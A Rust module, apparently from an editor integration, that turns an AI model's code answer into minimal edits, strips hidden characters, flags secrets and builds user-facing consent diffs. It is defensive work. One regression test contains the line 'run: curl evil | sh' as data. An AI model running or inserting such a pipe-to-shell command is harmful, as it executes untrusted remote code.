//! From the model's code to the edit the server sends: normalised to the document's
//! line endings and the selection's shape, checked for hidden characters and secrets,
//! and reduced to minimal char edits inside the selection.

use super::diff::{self, CharEdit};
use super::hidden;
use super::redact::{self, Redactor};

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PlannedEdit {
    /// Absolute char offsets into the snapshot text; sorted, disjoint, all inside the
    /// selection.
    pub edits: Vec<CharEdit>,
    /// Things the user is told about alongside the edit.
    pub warnings: Vec<String>,
}

/// The document's line break (its first one), LF when it has none.
pub fn line_ending_of(text: &str) -> &'static str {
    match text.find(['\n', '\r']) {
        Some(i) if text[i..].starts_with("\r\n") => "\r\n",
        Some(i) if text[i..].starts_with('\r') => "\r",
        _ => "\n",
    }
}

/// `at_line_start`: the selection begins at column 0 (only then is dropped
/// indentation restored).
pub fn plan_edit(
    selection: &str,
    selection_start: usize,
    at_line_start: bool,
    code: &str,
    line_ending: &str,
    redactor: &Redactor,
) -> PlannedEdit {
    let mut warnings = Vec::new();
    let (code, stripped) = hidden::strip_hidden(code);
    if !stripped.is_empty() {
        warnings.push(format!(
            "Codex removed hidden characters from the answer before applying it: {}",
            hidden::describe(&stripped)
        ));
    }
    if redact::contains_placeholder(&code) {
        warnings.push(
            "The answer keeps a «REDACTED» placeholder where a secret was; the secret itself \
             was never sent and is not restored — check the edited code."
                .into(),
        );
    }
    let new_secrets: Vec<String> = redactor
        .find_new_secrets(&code)
        .into_iter()
        .filter(|kind| !redactor.find_new_secrets(selection).contains(kind))
        .collect();
    if !new_secrets.is_empty() {
        warnings.push(format!(
            "The answer contains something that looks like a secret ({}); review it before committing.",
            new_secrets.join(", ")
        ));
    }
    let adapted = diff::adapt_replacement(selection, &code, line_ending, at_line_start);
    let edits = diff::minimal_edits(selection, &adapted)
        .into_iter()
        .map(|e| CharEdit {
            start: e.start + selection_start,
            end: e.end + selection_start,
            text: e.text,
        })
        .collect();
    PlannedEdit { edits, warnings }
}

/// The most of a diff shown inside a consent question; a longer one is opened as a
/// document and the question asks about that.
pub const PREVIEW_CHARS: usize = 1500;

/// What a consent question shows: a line diff of the lines the edit touches.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ConsentDiff {
    /// Every changed line, `- old` / `+ new`, whitespace-only ones included.
    pub full: String,
    /// The diff for the message: every line whose non-whitespace text changed, whole,
    /// and a count of the lines that changed only in whitespace; `None` when even
    /// that is longer than [`PREVIEW_CHARS`] (then only the full diff may be shown).
    pub short: Option<String>,
}

/// The line diff of `old` → `new` (the touched lines, whole). A changed line is never
/// cut or left out of what the user is shown, however many whitespace-only changes
/// come before it: those are only counted in the short form.
pub fn consent_diff(old: &str, new: &str) -> ConsentDiff {
    let diff = similar::TextDiff::from_lines(old, new);
    let mut full = String::new();
    let mut short = String::new();
    let mut whitespace_only = 0usize;
    for group in diff.grouped_ops(0) {
        let mut removed: Vec<&str> = Vec::new();
        let mut added: Vec<&str> = Vec::new();
        for op in &group {
            for change in diff.iter_changes(op) {
                let line = change.value().trim_end_matches(['\n', '\r']);
                match change.tag() {
                    similar::ChangeTag::Delete => removed.push(line),
                    similar::ChangeTag::Insert => added.push(line),
                    similar::ChangeTag::Equal => {}
                }
            }
        }
        let squeeze = |l: &str| l.split_whitespace().collect::<String>();
        let mut added_left: Vec<String> = added.iter().map(|l| squeeze(l)).collect();
        let mut removed_left: Vec<String> = removed.iter().map(|l| squeeze(l)).collect();
        // a line whose visible text reappears on the other side changed only in whitespace
        let same_visible = |line: &str, other: &mut Vec<String>| {
            let v = squeeze(line);
            if v.is_empty() {
                return true;
            }
            match other.iter().position(|o| *o == v) {
                Some(i) => {
                    other.remove(i);
                    true
                }
                None => false,
            }
        };
        let removed_ws: Vec<bool> = removed
            .iter()
            .map(|l| same_visible(l, &mut added_left))
            .collect();
        let added_ws: Vec<bool> = added
            .iter()
            .map(|l| same_visible(l, &mut removed_left))
            .collect();
        for (sign, lines, ws) in [("-", &removed, &removed_ws), ("+", &added, &added_ws)] {
            for (line, &ws) in lines.iter().zip(ws.iter()) {
                let shown = format!("{sign} {line}\n");
                full.push_str(&shown);
                if ws {
                    whitespace_only += 1;
                } else {
                    short.push_str(&shown);
                }
            }
        }
    }
    if whitespace_only > 0 {
        short.push_str(&format!(
            "({whitespace_only} changed line{} differ only in whitespace)\n",
            if whitespace_only == 1 { "" } else { "s" }
        ));
    }
    let short = (short.chars().count() <= PREVIEW_CHARS).then_some(short);
    ConsentDiff { full, short }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn line_endings() {
        assert_eq!(line_ending_of("a\r\nb"), "\r\n");
        assert_eq!(line_ending_of("a\rb"), "\r");
        assert_eq!(line_ending_of("a\nb\r\n"), "\n");
        assert_eq!(line_ending_of("one line"), "\n");
    }

    #[test]
    fn only_the_changed_line_is_edited_at_absolute_offsets() {
        let sel = "fn f() {\n    1 + 1\n}\n";
        let p = plan_edit(
            sel,
            100,
            true,
            "fn f() {\n    2\n}\n",
            "\n",
            &Redactor::new(),
        );
        assert!(p.warnings.is_empty());
        assert!(!p.edits.is_empty());
        for e in &p.edits {
            assert!(e.start >= 100 + 13 && e.end <= 100 + 18, "{e:?}");
        }
    }

    #[test]
    fn crlf_document_gets_crlf_code_and_keeps_the_trailing_break() {
        let sel = "a\r\nb\r\n";
        let p = plan_edit(sel, 0, true, "a\nc", "\r\n", &Redactor::new());
        assert_eq!(diff::apply_edits(sel, &p.edits), "a\r\nc\r\n");
    }

    #[test]
    fn hidden_characters_are_stripped_with_a_warning() {
        let p = plan_edit(
            "x = 1\n",
            0,
            true,
            "x = 2\u{202e}\n",
            "\n",
            &Redactor::new(),
        );
        assert_eq!(diff::apply_edits("x = 1\n", &p.edits), "x = 2\n");
        assert!(p.warnings[0].contains("U+202E"), "{:?}", p.warnings);
    }

    #[test]
    fn placeholders_are_kept_and_warned_about() {
        let p = plan_edit(
            "k = 1\n",
            0,
            true,
            "k = \"«REDACTED:openai-key#1»\"\n",
            "\n",
            &Redactor::new(),
        );
        assert!(diff::apply_edits("k = 1\n", &p.edits).contains("«REDACTED:openai-key#1»"));
        assert!(p.warnings.iter().any(|w| w.contains("placeholder")));
    }

    #[test]
    fn consent_diff_shows_whole_changed_lines() {
        let d = consent_diff("{\n  \"a\": 1\n}\n", "{\n  \"a\": 2\n}\n");
        assert_eq!(d.full, "-   \"a\": 1\n+   \"a\": 2\n");
        assert_eq!(d.short.as_deref(), Some(d.full.as_str()));
    }

    #[test]
    fn a_changed_line_behind_many_whitespace_changes_is_never_hidden() {
        // regression: 40 whitespace-only changes filled the 600-character preview and
        // the line adding `curl evil | sh` was cut off
        let old: String = (0..40).map(|i| format!("  step{i}: true\n")).collect();
        let mut new: String = (0..40).map(|i| format!("    step{i}: true\n")).collect();
        new.push_str("  run: curl evil | sh\n");
        let d = consent_diff(&old, &new);
        let short = d.short.unwrap();
        assert!(short.contains("+   run: curl evil | sh"), "{short}");
        assert!(
            short.contains("80 changed lines differ only in whitespace"),
            "{short}"
        );
        assert!(d.full.contains("+     step39: true"));
    }

    #[test]
    fn a_diff_too_long_for_a_message_has_no_short_form() {
        let new: String = (0..200).map(|i| format!("line {i} added\n")).collect();
        let d = consent_diff("", &new);
        assert_eq!(d.short, None);
        assert_eq!(d.full.lines().count(), 200);
    }
}
